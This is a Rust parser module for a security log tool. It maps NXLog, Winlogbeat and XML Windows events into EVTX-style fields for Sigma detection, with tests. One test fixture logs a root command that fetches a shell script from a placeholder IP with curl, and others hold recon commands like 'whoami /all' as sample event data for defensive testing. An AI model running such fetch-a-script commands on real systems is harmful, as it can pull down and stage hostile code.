//! `winlog`: Windows events as agents ship them, mapped to the same native and ECS fields
//! as the EVTX parser, so that the Windows Sigma rules evaluate on them.
//!
//! Each layout is rebuilt into the record an EVTX file would hold (`Event.System.*`,
//! `Event.EventData.*`) and handed to [`super::evtx::evtx_record_to_event`]:
//!
//! | layout | recognised by | system fields | event data |
//! |---|---|---|---|
//! | NXLog `im_msvistalog` JSON, and the OTRF Security-Datasets recordings shipped with it | top-level `Channel` and `EventID` | `EventID`, `Channel`, `Hostname`, `SourceName`, `RecordNumber`; time from `@timestamp` (UTC, added by Logstash), else `EventTime` in `parse.timezone` (NXLog writes local time without a zone) | every other top-level field, except the agent's own ([`NXLOG_AGENT_FIELDS`]) |
//! | Winlogbeat (ECS with `winlog.*`) | a `winlog` object with `event_id` | `winlog.event_id`, `channel`, `computer_name`, `provider_name`, `record_id`; time from `@timestamp` | `winlog.event_data` (and `winlog.user_data`) |
//!
//! The agent's own fields are kept beside the rebuilt ones under their names
//! (`EventReceivedTime`, `SourceModuleName`, `Message`, …), so nothing the agent sent is
//! lost. A record with no event id, no channel, or an event id that is not a number is
//! refused with the reason.

use super::evtx::evtx_record_to_event;
use crate::{Format, ParseContext, ParseError, RecordParser, normalize};
use haechi_event::{Event, Value, ecs};
use serde_json::{Map, Value as Json, json};

/// NXLog's own fields (and Logstash's), which are not event data.
pub const NXLOG_AGENT_FIELDS: &[&str] = &[
    "EventTime",
    "EventReceivedTime",
    "Hostname",
    "host",
    "Keywords",
    "EventType",
    "SeverityValue",
    "Severity",
    "SourceName",
    "ProviderGuid",
    "EventID",
    "Version",
    "Task",
    "OpcodeValue",
    "Opcode",
    "RecordNumber",
    "ActivityID",
    "RelatedActivityID",
    "ExecutionProcessID",
    "ThreadID",
    "ExecutionThreadID",
    "Channel",
    "Category",
    "Domain",
    "AccountName",
    "UserID",
    "AccountType",
    "Message",
    "SourceModuleName",
    "SourceModuleType",
    "ERROR_EVT_UNRESOLVED",
    "port",
    "@version",
    "@timestamp",
    "tags",
    "type",
];

pub struct WinlogParser;

impl WinlogParser {
    pub fn new() -> Self {
        WinlogParser
    }
}

impl Default for WinlogParser {
    fn default() -> Self {
        Self::new()
    }
}

impl RecordParser for WinlogParser {
    fn format(&self) -> Format {
        Format::Winlog
    }

    fn parse(&mut self, record: &str, ctx: &ParseContext) -> Result<Option<Event>, ParseError> {
        if record.trim_start().starts_with('<') {
            return event_xml_to_event(record, ctx).map(Some);
        }
        let map = normalize::json_object(record, "a Windows event")?;
        let event = match map.get("winlog") {
            Some(Json::Object(winlog)) => winlogbeat(&map, winlog, ctx)?,
            _ => nxlog(&map, ctx)?,
        };
        Ok(Some(event))
    }
}

/// Whether `text` is a Windows event as XML (`<Event xmlns=…><System>…`), as Windows Event
/// Forwarding, `wevtutil qe /f:xml`, `Get-WinEvent | % ToXml()` and Sysmon for Linux write
/// it, optionally after an XML declaration.
pub fn looks_like_event_xml(text: &str) -> bool {
    let t = text.trim_start();
    let t = match t.strip_prefix("<?xml") {
        Some(rest) => rest.split_once("?>").map_or("", |(_, r)| r).trim_start(),
        None => t,
    };
    (t.starts_with("<Event ") || t.starts_with("<Event>")) && t.contains("<System>")
}

/// The most XML elements one event may hold (a client controls the size of what it sends).
const MAX_XML_NODES: usize = 20_000;

/// A Windows event in its XML rendering, turned into the record an EVTX file holds and
/// mapped by the EVTX parser. `EventData`'s `<Data Name="X">` become `EventData.X`;
/// `RenderingInfo` (the rendered `Message`, level and task names of forwarded events) is
/// kept as `Event.RenderingInfo.*`; numbers in `System` are numbers, as in EVTX files.
pub fn event_xml_to_event(xml: &str, ctx: &ParseContext) -> Result<Event, ParseError> {
    let options = roxmltree::ParsingOptions {
        allow_dtd: false,
        nodes_limit: MAX_XML_NODES as u32,
    };
    let doc = roxmltree::Document::parse_with_options(xml.trim(), options)
        .map_err(|e| ParseError::new(format!("Windows event XML is not well-formed: {e}")))?;
    let root = doc.root_element();
    if root.tag_name().name() != "Event" {
        return Err(ParseError::new(format!(
            "expected an <Event> element, found <{}>",
            root.tag_name().name()
        )));
    }
    if !root.children().any(|c| c.has_tag_name("System")) {
        return Err(ParseError::new(
            "a Windows event XML needs a <System> element",
        ));
    }
    let event = json!({ "Event": element_json(root, false) });
    let mut out = evtx_record_to_event(&event, ctx)?;
    if let Some(message) = event
        .pointer("/Event/RenderingInfo/Message")
        .and_then(Json::as_str)
        .filter(|m| !m.is_empty())
    {
        out.push(ecs::MESSAGE, message);
    }
    Ok(out)
}

/// One XML element as the EVTX parser's JSON (`#attributes`, `#text`, children by name).
fn element_json(node: roxmltree::Node<'_, '_>, in_system: bool) -> Json {
    let in_system = in_system || node.has_tag_name("System");
    let scalar = |text: &str| -> Json {
        match text.parse::<u64>() {
            Ok(n) if in_system && (text == "0" || !text.starts_with('0')) => json!(n),
            _ => Json::String(text.to_owned()),
        }
    };
    let mut attributes: Map<String, Json> = node
        .attributes()
        .map(|a| (a.name().to_owned(), scalar(a.value())))
        .collect();
    // The parser reads `xmlns` and `xmlns:p` as namespaces, not attributes; EVTX keeps
    // them as attributes of the element that declares them.
    for ns in node.namespaces() {
        let inherited = node
            .parent_element()
            .is_some_and(|p| p.namespaces().any(|q| q == ns));
        if !inherited && ns.name() != Some("xml") {
            let name = match ns.name() {
                Some(prefix) => format!("xmlns:{prefix}"),
                None => "xmlns".to_owned(),
            };
            attributes.insert(name, Json::String(ns.uri().to_owned()));
        }
    }
    let children: Vec<roxmltree::Node<'_, '_>> =
        node.children().filter(|c| c.is_element()).collect();
    if children.is_empty() {
        let text: String = node
            .children()
            .filter(|c| c.is_text())
            .filter_map(|c| c.text())
            .collect();
        let text = text.trim();
        if attributes.is_empty() {
            return scalar(text);
        }
        let mut map = Map::new();
        map.insert("#attributes".into(), Json::Object(attributes));
        if !text.is_empty() {
            map.insert("#text".into(), scalar(text));
        }
        return Json::Object(map);
    }
    let mut map = Map::new();
    if !attributes.is_empty() {
        map.insert("#attributes".into(), Json::Object(attributes));
    }
    for child in children {
        // `<Data Name="CommandLine">…</Data>` is the field `CommandLine`.
        let (key, value) = match child.attribute("Name") {
            Some(name) if child.has_tag_name("Data") => {
                let text: String = child.children().filter_map(|c| c.text()).collect();
                (name.to_owned(), Json::String(text))
            }
            _ => (
                child.tag_name().name().to_owned(),
                element_json(child, in_system),
            ),
        };
        match map.get_mut(&key) {
            Some(Json::Array(items)) => items.push(value),
            Some(existing) => {
                let first = existing.take();
                *existing = Json::Array(vec![first, value]);
            }
            None => {
                map.insert(key, value);
            }
        }
    }
    Json::Object(map)
}

fn event_id(value: Option<&Json>, name: &str) -> Result<Json, ParseError> {
    match value {
        Some(Json::Number(n)) if n.is_u64() => Ok(Json::Number(n.clone())),
        Some(Json::String(s)) if s.trim().parse::<u32>().is_ok() => {
            Ok(json!(s.trim().parse::<u32>().unwrap_or_default()))
        }
        Some(other) => Err(ParseError::new(format!(
            "{name} '{}' is not an event id",
            normalize::excerpt(&other.to_string(), 40)
        ))),
        None => Err(ParseError::new(format!("a Windows event needs {name}"))),
    }
}

fn text<'a>(map: &'a Map<String, Json>, key: &str) -> Option<&'a str> {
    map.get(key)
        .and_then(Json::as_str)
        .filter(|s| !s.is_empty())
}

/// The UTC time of `@timestamp`, else of a local `YYYY-MM-DD hh:mm:ss` stamp in the
/// context's zone, as RFC 3339.
fn utc_time(map: &Map<String, Json>, local_key: &str, ctx: &ParseContext) -> Option<String> {
    if let Some(t) = text(map, "@timestamp").and_then(haechi_event::parse_rfc3339) {
        return Some(t.to_datetime().to_rfc3339());
    }
    let local = text(map, local_key)?;
    let naive = chrono::NaiveDateTime::parse_from_str(local.trim(), "%Y-%m-%d %H:%M:%S").ok()?;
    let ts = normalize::zoned_to_utc(ctx, None, &naive)?;
    Some(ts.to_datetime().to_rfc3339())
}

fn system(
    id: Json,
    channel: &str,
    computer: Option<&str>,
    provider: Option<&str>,
    record: Option<&Json>,
    time: Option<String>,
) -> Map<String, Json> {
    let mut s = Map::new();
    s.insert("EventID".into(), id);
    s.insert("Channel".into(), channel.into());
    if let Some(c) = computer {
        s.insert("Computer".into(), c.into());
    }
    if let Some(p) = provider {
        s.insert("Provider_attributes".into(), json!({ "Name": p }));
    }
    if let Some(r) = record {
        s.insert("EventRecordID".into(), r.clone());
    }
    if let Some(t) = time {
        s.insert("TimeCreated_attributes".into(), json!({ "SystemTime": t }));
    }
    s
}

fn nxlog(map: &Map<String, Json>, ctx: &ParseContext) -> Result<Event, ParseError> {
    let id = event_id(map.get("EventID"), "EventID")?;
    let channel =
        text(map, "Channel").ok_or_else(|| ParseError::new("a Windows event needs Channel"))?;
    let computer = text(map, "Hostname").or_else(|| text(map, "host"));
    let time = utc_time(map, "EventTime", ctx).or_else(|| utc_time(map, "EventReceivedTime", ctx));
    let system = system(
        id,
        channel,
        computer,
        text(map, "SourceName"),
        map.get("RecordNumber"),
        time,
    );
    let data: Map<String, Json> = map
        .iter()
        .filter(|(k, _)| !NXLOG_AGENT_FIELDS.contains(&k.as_str()))
        .map(|(k, v)| (k.clone(), v.clone()))
        .collect();
    let record = json!({ "Event": { "System": system, "EventData": data } });
    let mut event = evtx_record_to_event(&record, ctx)?;
    keep_agent_fields(&mut event, map, NXLOG_AGENT_FIELDS);
    event.set(ecs::EVENT_MODULE, "windows");
    Ok(event)
}

fn winlogbeat(
    map: &Map<String, Json>,
    winlog: &Map<String, Json>,
    ctx: &ParseContext,
) -> Result<Event, ParseError> {
    let id = event_id(winlog.get("event_id"), "winlog.event_id")?;
    let channel = text(winlog, "channel")
        .ok_or_else(|| ParseError::new("a Windows event needs winlog.channel"))?;
    let time = utc_time(map, "@timestamp", ctx);
    let system = system(
        id,
        channel,
        text(winlog, "computer_name"),
        text(winlog, "provider_name"),
        winlog.get("record_id"),
        time,
    );
    let mut inner = Map::new();
    inner.insert("System".into(), Json::Object(system));
    if let Some(d) = winlog.get("event_data") {
        inner.insert("EventData".into(), d.clone());
    }
    if let Some(u) = winlog.get("user_data") {
        inner.insert("UserData".into(), json!({ "Data": u }));
    }
    let mut event = evtx_record_to_event(&json!({ "Event": inner }), ctx)?;
    if let Some(m) = text(map, "message") {
        event.push(ecs::MESSAGE, m.to_owned());
    }
    event.set(ecs::EVENT_MODULE, "windows");
    Ok(event)
}

/// The agent's scalar fields, under their own names.
fn keep_agent_fields(event: &mut Event, map: &Map<String, Json>, names: &[&'static str]) {
    for name in names {
        if *name == "@timestamp" {
            continue;
        }
        match map.get(*name) {
            Some(Json::String(s)) if !s.is_empty() => event.push(*name, Value::Str(s.clone())),
            Some(Json::Number(n)) => {
                if let Some(i) = n.as_i64() {
                    event.push(*name, Value::Int(i));
                }
            }
            Some(Json::Bool(b)) => event.push(*name, Value::Bool(*b)),
            _ => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const EVTX: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../../../shared/data/evtx/");

    /// Every record of real EVTX files, rendered as XML the way Windows renders it (the
    /// `evtx` crate's XML output, what `wevtutil qe /f:xml` and Event Forwarding carry),
    /// gives the same event as the EVTX file itself: every field, same value.
    #[test]
    fn event_xml_maps_exactly_like_the_evtx_record_it_renders() {
        let ctx = ParseContext::new("t");
        let mut compared = 0;
        for file in [
            "YamatoSecurity/DefenseEvasion/T1218.004_SignedBinaryProxyExecutionInstallUtil_Sysmon.evtx",
            "DeepBlueCLI/password-spray.evtx",
            "DeepBlueCLI/new-user-security.evtx",
            "DeepBlueCLI/metasploit-psexec-native-target-system.evtx",
        ] {
            let path = std::path::Path::new(EVTX).join(file);
            let mut from_file = std::collections::HashMap::new();
            super::super::evtx::parse_evtx_file(&path, &ctx, &mut |r| {
                let e = r.unwrap();
                let id = e
                    .get("Event.System.EventRecordID")
                    .unwrap()
                    .as_text()
                    .into_owned();
                from_file.insert(id, e);
            })
            .unwrap();
            let mut parser = evtx::EvtxParser::from_path(&path).unwrap();
            for record in parser.records() {
                let xml = record.unwrap().data;
                // One event per line, as forwarders ship it: line breaks inside the XML
                // travel as character references.
                let mut one_line = String::with_capacity(xml.len());
                for (i, line) in xml.replace('\r', "&#13;").split('\n').enumerate() {
                    let markup = line.trim_start().starts_with('<');
                    match (i, markup) {
                        (0, _) => one_line.push_str(line),
                        (_, false) if line.trim().is_empty() => {}
                        (_, true) => one_line.push_str(line.trim_start()),
                        (_, false) => {
                            one_line.push_str("&#10;");
                            one_line.push_str(line);
                        }
                    }
                }
                assert!(looks_like_event_xml(&one_line), "{file}: {one_line}");
                let e = event_xml_to_event(&one_line, &ctx).unwrap();
                let id = e
                    .get("Event.System.EventRecordID")
                    .unwrap()
                    .as_text()
                    .into_owned();
                let want = &from_file[&id];
                assert_eq!(e.timestamp, want.timestamp, "{file} #{id}");
                for (name, value) in &want.fields {
                    let got = e
                        .get(name)
                        .unwrap_or_else(|| panic!("{file} #{id}: no {name}"));
                    assert_eq!(got.as_text(), value.as_text(), "{file} #{id}: {name}");
                }
                compared += 1;
            }
        }
        assert!(compared > 100, "{compared}");
    }

    #[test]
    fn broken_or_foreign_xml_is_refused_with_the_reason() {
        let ctx = ParseContext::new("t");
        let err =
            event_xml_to_event("<Event><System><EventID>4624</System></Event>", &ctx).unwrap_err();
        assert!(err.0.contains("not well-formed"), "{}", err.0);
        let err = event_xml_to_event("<Event><EventData/></Event>", &ctx).unwrap_err();
        assert!(err.0.contains("<System>"), "{}", err.0);
        let bomb = format!(
            "<Event><System><EventID>1</EventID><Channel>x</Channel></System><EventData>{}</EventData></Event>",
            "<Data Name=\"a\">b</Data>".repeat(MAX_XML_NODES)
        );
        assert!(event_xml_to_event(&bomb, &ctx).is_err());
        let dtd = "<!DOCTYPE Event [<!ENTITY a \"b\">]><Event><System/></Event>";
        assert!(event_xml_to_event(dtd, &ctx).is_err());
    }

    #[test]
    fn sysmon_for_linux_over_syslog_is_a_sysmon_event() {
        let line = r#"<14>Oct 10 12:00:01 web01 sysmon: <Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2026-10-10T12:00:01.123456Z"/><EventRecordID>77</EventRecordID><Correlation/><Execution ProcessID="900" ThreadID="900"/><Channel>Linux-Sysmon/Operational</Channel><Computer>web01</Computer><Security UserId="0"/></System><EventData><Data Name="RuleName">-</Data><Data Name="UtcTime">2026-10-10 12:00:01.120</Data><Data Name="ProcessId">4242</Data><Data Name="Image">/usr/bin/curl</Data><Data Name="CommandLine">curl -s http://203.0.113.9/x.sh</Data><Data Name="User">root</Data><Data Name="ParentImage">/bin/bash</Data></EventData></Event>"#;
        assert_eq!(crate::detect::detect_record(line), Format::Syslog);
        let e = crate::parsers::syslog::SyslogParser::new()
            .parse(line, &ParseContext::new("t"))
            .unwrap()
            .unwrap();
        assert_eq!(
            e.get_str("winlog.channel"),
            Some("Linux-Sysmon/Operational")
        );
        assert_eq!(e.get_str(ecs::EVENT_CODE), Some("1"));
        assert_eq!(
            e.get_str(ecs::PROCESS_COMMAND_LINE),
            Some("curl -s http://203.0.113.9/x.sh")
        );
        assert_eq!(e.timestamp.0, 1_791_633_601_123_456_000);
        assert_eq!(e.get_str("log.syslog.facility.name"), Some("user"));
    }

    #[test]
    fn nxlog_json_over_syslog_is_a_windows_event() {
        let line = r#"<14>Sep 21 19:35:27 wef01 nxlog: {"EventTime":"2020-09-21 19:35:26","Hostname":"WORKSTATION5","EventID":4688,"SourceName":"Microsoft-Windows-Security-Auditing","Channel":"Security","NewProcessName":"C:\\Windows\\System32\\whoami.exe","CommandLine":"whoami /all","@timestamp":"2020-09-21T23:35:27.841Z"}"#;
        let e = crate::parsers::syslog::SyslogParser::new()
            .parse(line, &ParseContext::new("t"))
            .unwrap()
            .unwrap();
        assert_eq!(
            e.get_str("winlog.channel"),
            Some("Security"),
            "{:?}",
            e.fields
        );
        assert_eq!(e.get_str(ecs::EVENT_CODE), Some("4688"));
        assert_eq!(e.get_str(ecs::HOST_NAME), Some("WORKSTATION5"));
        assert_eq!(
            e.get_str("Event.EventData.CommandLine"),
            Some("whoami /all")
        );
    }

    #[test]
    fn an_nxlog_sysmon_process_creation_maps_like_evtx() {
        let line = r#"{"EventTime":"2020-09-21 19:35:26","Hostname":"WORKSTATION5.theshire.local","EventID":1,"SourceName":"Microsoft-Windows-Sysmon","Channel":"Microsoft-Windows-Sysmon/Operational","RecordNumber":42,"Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"cmd.exe /c whoami","ParentImage":"C:\\Windows\\explorer.exe","ProcessId":"4242","User":"THESHIRE\\pgustavo","@timestamp":"2020-09-21T23:35:27.841Z","SourceModuleType":"im_msvistalog"}"#;
        let e = WinlogParser::new()
            .parse(line, &ParseContext::new("t"))
            .unwrap()
            .unwrap();
        assert_eq!(
            e.get_str("winlog.channel"),
            Some("Microsoft-Windows-Sysmon/Operational")
        );
        assert_eq!(e.get_str(ecs::EVENT_CODE), Some("1"));
        assert_eq!(
            e.get_str(ecs::HOST_NAME),
            Some("WORKSTATION5.theshire.local")
        );
        assert_eq!(
            e.get_str("Event.EventData.CommandLine"),
            Some("cmd.exe /c whoami")
        );
        assert_eq!(
            e.get_str(ecs::PROCESS_COMMAND_LINE),
            Some("cmd.exe /c whoami")
        );
        assert_eq!(e.get_str(ecs::USER_NAME), Some("pgustavo"));
        assert_eq!(e.get_str("SourceModuleType"), Some("im_msvistalog"));
        assert_eq!(
            e.timestamp,
            haechi_event::parse_rfc3339("2020-09-21T23:35:27.841Z").unwrap()
        );
    }

    #[test]
    fn a_winlogbeat_security_logon_maps_like_evtx() {
        let line = r#"{"@timestamp":"2024-05-01T10:00:00.000Z","message":"An account was successfully logged on.","winlog":{"channel":"Security","event_id":"4624","computer_name":"dc01.corp.example","provider_name":"Microsoft-Windows-Security-Auditing","record_id":9001,"event_data":{"TargetUserName":"alice","TargetDomainName":"CORP","LogonType":"10","IpAddress":"203.0.113.7","IpPort":"51234"}},"host":{"name":"dc01"}}"#;
        let e = WinlogParser::new()
            .parse(line, &ParseContext::new("t"))
            .unwrap()
            .unwrap();
        assert_eq!(
            e.get_str("winlog.channel"),
            Some("Security"),
            "{:?}",
            e.fields
        );
        assert_eq!(e.get_str(ecs::EVENT_CODE), Some("4624"));
        assert_eq!(e.get_str(ecs::USER_NAME), Some("alice"));
        assert_eq!(e.get_str(ecs::EVENT_OUTCOME), Some("success"));
        assert_eq!(
            e.get(ecs::SOURCE_IP).map(|v| v.as_text().into_owned()),
            Some("203.0.113.7".into())
        );
        assert_eq!(e.get_str("Event.EventData.LogonType"), Some("10"));
    }

    #[test]
    fn a_record_without_an_event_id_is_refused() {
        let err = WinlogParser::new()
            .parse(
                r#"{"Channel":"Security","EventID":"x"}"#,
                &ParseContext::new("t"),
            )
            .unwrap_err();
        assert!(err.0.contains("not an event id"), "{err}");
    }
}
